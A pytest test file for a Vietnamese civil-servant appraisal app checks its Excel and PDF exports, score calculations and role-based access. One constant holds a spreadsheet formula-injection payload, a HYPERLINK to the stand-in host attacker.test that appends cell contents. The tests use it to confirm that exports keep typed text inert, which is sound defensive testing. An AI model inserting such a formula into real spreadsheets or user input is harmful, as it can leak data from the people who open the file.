"""The monthly round's outputs (issue 12): the Excel of an agency's month and of its year (the
year from `year.compute`: task results, general criteria, total, levels, decisions), and the
servant's yearly sheet as a PDF in Vietnamese whatever the reader's language, shown only to those
the policy lets see it; text people typed is text in Excel, numbers are numbers."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

import factories as f
from monthly_support import agency, planned, self_assessed  # noqa: F401  (fixture)
from test_monthly_year import general, months
from workflow.accounts.models import Role
from workflow.extensions import db
from workflow.monthly import operations, year

FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"Bấm vào đây")'


def _rows(response) -> list[list]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type not in ("f", "e"), (cell.coordinate, cell.value)
    return [[c for c in row] for row in sheet.iter_rows()]


def _pdf(response) -> str:
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    return " ".join(" ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages).split())


def test_the_excel_of_an_agencys_month(agency, as_person):
    lan = planned(agency, "lan", lines=[{"name": FORMULA, "measure": "văn bản", "coefficient": Decimal(2), "quantity": Decimal(2)}])
    self_assessed(lan, {1: ("2", date(2026, 3, 18))})
    operations.assess(lan, [{"line_id": lan.lines[0].id, "errors": 1}], actor=agency.leader, version=lan.version)
    db.session.flush()
    rows = _rows(as_person(agency.head).get(f"/monthly/team/export.xlsx?period_id={agency.month(3).id}"))
    assert rows[0][0].value == "Sở Nội vụ — Tháng 3/2026"
    header = [c.value for c in rows[3]]
    assert header[:4] == ["Công chức", "Chức vụ", "Trạng thái", "Sản phẩm"] and header[-1] == "Điểm của tháng"
    by_name = {r[0].value: r for r in rows[4:]}
    assert set(by_name) == {"Phạm Thị Lan", "Nguyễn Minh Đức", "Lê Thị Hòa", "Trưởng phòng Công chức"}
    line = by_name["Phạm Thị Lan"]
    assert line[3].value == FORMULA and line[3].data_type == "s" and line[3].quotePrefix
    assert (line[5].value, line[6].value, line[8].value, line[13].value) == (2, 2, 2, 1)  # numbers stay numbers
    assert line[16].value == pytest.approx(float(lan.points))
    assert by_name["Nguyễn Minh Đức"][2].value == "Chưa lập kế hoạch"
    assert as_person(agency.leader).get(f"/monthly/team/export.xlsx?period_id={agency.month(3).id}").status_code == 404  # heads no agency
    assert as_person(agency.leader).get(f"/monthly/team/export.xlsx?period_id={agency.month(3).id}&unit_id={agency.unit.id}").status_code == 403
    admin = as_person(f.person(Role.ADMIN))
    assert admin.get(f"/monthly/team/export.xlsx?period_id={agency.month(3).id}&unit_id={agency.unit.id}").status_code == 200


def test_the_excel_of_the_agencys_year_uses_the_engines_figures_and_decisions(agency, as_person):
    months(agency, "lan", ["63.00", "70.00", "64.17"])
    general(agency, "lan", ("9", "9", "9.5"))
    months(agency, "duc", ["60.00", "50.00"])
    general(agency, "duc", ("8", "8", "8"))
    panel = year.compute(agency.cycle, [agency.unit.id])
    operations.decide_years(panel, [{"subject_id": agency.subjects["duc"].id, "level": "completed", "reason": FORMULA}], actor=agency.head)
    db.session.flush()
    rows = _rows(as_person(agency.head).get(f"/monthly/agency-year/export.xlsx?cycle_id={agency.cycle.id}"))
    header = [c.value for c in rows[3]]
    assert header[:4] == ["Công chức", "Chức vụ", "Số tháng được tính", "Điểm kết quả thực hiện nhiệm vụ"] and header[-1] == "Giải thích"
    by_name = {r[0].value: {h: c for h, c in zip(header, r, strict=False)} for r in rows[4:]}
    lan, duc = by_name["Phạm Thị Lan"], by_name["Nguyễn Minh Đức"]
    # (63 + 70 + 64,17) / 3 = 65,72; + 27,5 = 93,22: xuất sắc by points, tốt by the quota (Điều 20 k5).
    assert (lan["Số tháng được tính"].value, lan["Điểm kết quả thực hiện nhiệm vụ"].value, lan["Tổng điểm"].value) == (3, 65.72, 93.22)
    assert lan["Mức đề xuất"].value == "Hoàn thành tốt nhiệm vụ" and lan["Mức được quyết định"].value is None
    assert "93,22" in lan["Giải thích"].value
    # (60 + 50) / 2 = 55; + 24 = 79: hoàn thành nhiệm vụ, decided with a reason (text, not a formula).
    assert duc["Tổng điểm"].value == 79 and duc["Mức được quyết định"].value == "Hoàn thành nhiệm vụ"
    assert duc["Lý do"].value == FORMULA and duc["Lý do"].data_type == "s" and duc["Lý do"].quotePrefix
    assert by_name["Lê Thị Hòa"]["Tổng điểm"].value is None  # not scored yet
    assert as_person(agency.leader).get(f"/monthly/agency-year/export.xlsx?cycle_id={agency.cycle.id}&unit_id={agency.unit.id}").status_code == 403


def test_the_yearly_sheet_is_in_vietnamese_and_only_for_those_who_may_see_it(agency, as_person):
    months(agency, "lan", ["63.00", "70.00", "64.17"])
    general(agency, "lan", ("9", "9", "9.5"))
    agency.leader.locale = agency.lan.locale = "en"
    db.session.flush()
    path = f"/monthly/year/{agency.subjects['lan'].id}/sheet.pdf?cycle_id={agency.cycle.id}"
    text = _pdf(as_person(agency.leader).get(path))  # her direct manager, reading in English
    assert "PHIẾU ĐÁNH GIÁ, XẾP LOẠI CHẤT LƯỢNG CÔNG CHỨC" in text and "Phạm Thị Lan" in text
    assert "03/2026" in text and "64,17 04/2026 Chưa lập kế hoạch —" in text and "Hội đồng tư vấn" not in text
    assert "Điểm kết quả thực hiện nhiệm vụ của năm: 65,72/70" in text and "Tổng điểm: 93,22/100." in text
    assert "Mức đề xuất: Hoàn thành tốt nhiệm vụ (chưa có quyết định)" in text and "Căn cứ xếp loại:" in text
    assert "Approved" not in text and "Year" not in text
    # The servant sees it once the level is decided; another agency's head never.
    assert as_person(agency.lan).get(path).status_code == 403
    assert as_person(f.person((Role.HEAD, f.unit()))).get(path).status_code == 403
    panel = year.compute(agency.cycle, [agency.unit.id])
    operations.decide_years(panel, [{"subject_id": agency.subjects["lan"].id, "level": "good"}], actor=agency.head)
    db.session.flush()
    text = _pdf(as_person(agency.lan).get(path))
    assert "Xếp loại: HOÀN THÀNH TỐT NHIỆM VỤ" in text and "93,22" in text and "Người đứng đầu cơ quan quyết định ngày" in text
